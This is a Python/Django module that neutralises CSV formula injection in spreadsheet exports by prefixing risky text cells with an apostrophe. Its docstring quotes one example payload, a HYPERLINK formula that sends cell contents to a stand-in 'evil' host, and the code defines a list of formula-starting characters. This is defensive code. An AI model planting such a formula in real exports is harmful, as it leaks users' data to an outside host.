"""The one way to write a spreadsheet export: every cell neutralised against formula injection.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some also after a TAB or CR, or after leading spaces (OWASP "CSV Injection"). A deal named
``=HYPERLINK("http://evil/?"&A1,"Click")`` exported by a manager would run on their machine.
:func:`safe_cell` prefixes such *text* with an apostrophe, which spreadsheets show as text and
do not store. A number typed as a number (``int``, ``Decimal``, ``float``) is left alone, so a
negative amount stays a number that sums; a string that merely looks like ``-5`` is text from
a user and is neutralised like any other.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from django.http import StreamingHttpResponse

# OWASP's list: formula starters, and TAB / CR which some spreadsheets skip before them.
FORMULA_STARTERS = frozenset("=+-@\t\r")
_WHITESPACE = " \t\r\n\x0b\x0c"


def is_dangerous(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula."""
    return bool(text) and (
        text[0] in FORMULA_STARTERS or text.lstrip(_WHITESPACE)[:1] in FORMULA_STARTERS
    )


def safe_cell(value: Any) -> Any:
    """``value`` as a cell that no spreadsheet runs: numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | Decimal):
        return value
    if isinstance(value, float):
        return value if value == value and value not in (float("inf"), float("-inf")) else ""
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    return "'" + text if is_dangerous(text) else text


class _Echo:
    """A file-like object whose ``write`` hands the line back, for streaming."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """``rows`` (header first) as CSV lines, every cell through :func:`safe_cell`."""
    writer = csv.writer(_Echo())
    for row in rows:
        yield writer.writerow([safe_cell(v) for v in row])


def csv_response(rows: Iterable[Iterable[Any]], *, filename: str) -> StreamingHttpResponse:
    """A streamed CSV download of ``rows``; private (``no-store``) like every export."""
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response
